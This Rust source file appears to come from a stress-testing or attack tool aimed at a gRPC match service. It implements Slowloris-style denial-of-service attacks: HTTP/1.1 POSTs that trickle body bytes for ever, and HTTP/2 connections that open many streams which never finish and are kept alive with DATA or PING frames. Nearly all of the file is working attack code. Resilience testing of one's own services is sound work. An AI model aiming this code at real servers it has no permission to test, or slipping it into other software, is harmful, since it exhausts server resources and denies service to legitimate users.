//! Requests whose bodies never end.

use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::time::{Duration, interval};

use super::silence::connect;
use crate::attack::Attack;
use crate::http2::{self, FrameWriter, WINDOW_USUAL, flag, frame, kind};
use crate::tally::Tally;
use crate::target::{ATTACKER, Target};

/// How often a byte of a body comes, so that no connection is idle.
const BYTE_EVERY: Duration = Duration::from_millis(250);
const UNARY: &str = "/bakufu.play.v1.MatchService/GetMatch";
const STREAMING: &str = "/bakufu.play.v1.MatchService/WatchMatch";
/// Both sides talk as they like, and nothing has to be asked first.
const DIALOGUE: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/// By which protocol a body comes over HTTP/1.1.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Door {
    Json,
    GrpcWeb,
}

impl Door {
    fn content_type(self) -> &'static str {
        match self {
            Self::Json => "application/json",
            Self::GrpcWeb => "application/grpc-web+proto",
        }
    }

    /// A byte that may stand anywhere before the message is whole.
    fn byte(self) -> u8 {
        match self {
            Self::Json => b' ',
            Self::GrpcWeb => 0,
        }
    }
}

/// So many requests over HTTP/1.1, each on a connection of its own. They announce
/// more than they send.
pub(crate) fn bodies_without_end(target: Target, door: Door, count: usize) -> Attack {
    unfinished_bodies(target, door, count, 0)
}

/// The same with bodies that are nearly whole, and so large as may be.
pub(crate) fn large_bodies_without_end(target: Target, door: Door, count: usize) -> Attack {
    const AT_ONCE_BYTES: usize = 200 * 1024;
    unfinished_bodies(target, door, count, AT_ONCE_BYTES)
}

fn unfinished_bodies(target: Target, door: Door, count: usize, at_once: usize) -> Attack {
    Attack::by(count, move |_, tally| async move {
        let Some(connection) = connect(target, &tally).await else { return };
        let (reader, writer) = connection.into_split();
        let answers = tokio::spawn(note_answers(reader, Arc::clone(&tally)));
        trickle(target, door, at_once, writer).await;
        // Who has been answered may still be read, as one that was cut off.
        let _ = answers.await;
        tally.note("closed");
    })
}

async fn trickle(target: Target, door: Door, at_once: usize, mut writer: OwnedWriteHalf) {
    const ANNOUNCED_MORE_BYTES: usize = 4096;
    let announced = at_once + ANNOUNCED_MORE_BYTES;
    let head = format!(
        "POST {UNARY} HTTP/1.1\r\nhost: {}\r\ncontent-type: {}\r\ncontent-length: \
         {announced}\r\n\r\n",
        target.address,
        door.content_type(),
    );
    let mut bytes = interval(BYTE_EVERY);
    let begin = [head.as_bytes(), &vec![door.byte(); at_once]].concat();
    let mut sent = writer.write_all(&begin).await;
    while sent.is_ok() {
        bytes.tick().await;
        sent = writer.write_all(&[door.byte()]).await;
    }
}

async fn note_answers(mut reader: OwnedReadHalf, tally: Arc<Tally>) {
    let mut said = [0; 1024];
    while let Ok(length @ 1..) = reader.read(&mut said).await {
        if said[..length].starts_with(b"HTTP/1.1 ") {
            tally.note("answered");
        }
    }
}

/// Over some connections of HTTP/2, so many unary calls each whose message never
/// comes whole.
pub(crate) fn messages_without_end(target: Target, connections: usize, streams: usize) -> Attack {
    many_streams(target, UNARY, connections, streams, Vec::new())
}

/// Over some connections of HTTP/2, so many streams each that are opened without
/// ever saying what is to be streamed.
pub(crate) fn streams_that_never_ask(target: Target, connections: usize, streams: usize) -> Attack {
    many_streams(target, STREAMING, connections, streams, Vec::new())
}

/// Over some connections of HTTP/2, so many dialogues each in which nobody speaks.
pub(crate) fn silent_dialogues(target: Target, connections: usize, streams: usize) -> Attack {
    many_streams(target, DIALOGUE, connections, streams, Vec::new())
}

/// Over some connections of HTTP/2, so many streams each of one match, for ever.
pub(crate) fn watchers(
    target: Target,
    match_id: &str,
    connections: usize,
    streams: usize,
) -> Attack {
    let message = http2::grpc_message(match_id);
    many_streams(target, STREAMING, connections, streams, message)
}

/// Calls with this as their whole body; without one, the body never ends.
fn many_streams(
    target: Target,
    path: &'static str,
    connections: usize,
    streams: usize,
    body: Vec<u8>,
) -> Attack {
    Attack::by(connections, move |_, tally| {
        let body = body.clone();
        async move {
            let Ok((reader, mut writer)) = http2::open(target, ATTACKER, WINDOW_USUAL).await else {
                return tally.note("refused");
            };
            tally.note("opened");
            let notes = Arc::clone(&tally);
            tokio::spawn(async move { reader.note_all(&notes).await });
            if begin_calls(target, path, streams, &body, &mut writer).await.is_err() {
                return tally.note("thrown out");
            }
            tally.note("begun");
            let mut bytes = interval(BYTE_EVERY);
            // Whoever has said everything keeps the connection alive by other means.
            let alive = match body.is_empty() {
                true => frame(kind::DATA, 0, 1, &[0]),
                false => frame(kind::PING, 0, 0, &[0; 8]),
            };
            while writer.send(&alive).await.is_ok() {
                bytes.tick().await;
            }
        }
    })
}

async fn begin_calls(
    target: Target,
    path: &str,
    streams: usize,
    body: &[u8],
    writer: &mut FrameWriter,
) -> std::io::Result<()> {
    let headers = http2::grpc_headers(target, path);
    for _ in 0..streams {
        let stream = writer.next_stream();
        let mut call = frame(kind::HEADERS, flag::END_HEADERS, stream, &headers);
        if !body.is_empty() {
            call.extend(frame(kind::DATA, flag::END_STREAM, stream, body));
        }
        writer.send(&call).await?;
    }
    Ok(())
}
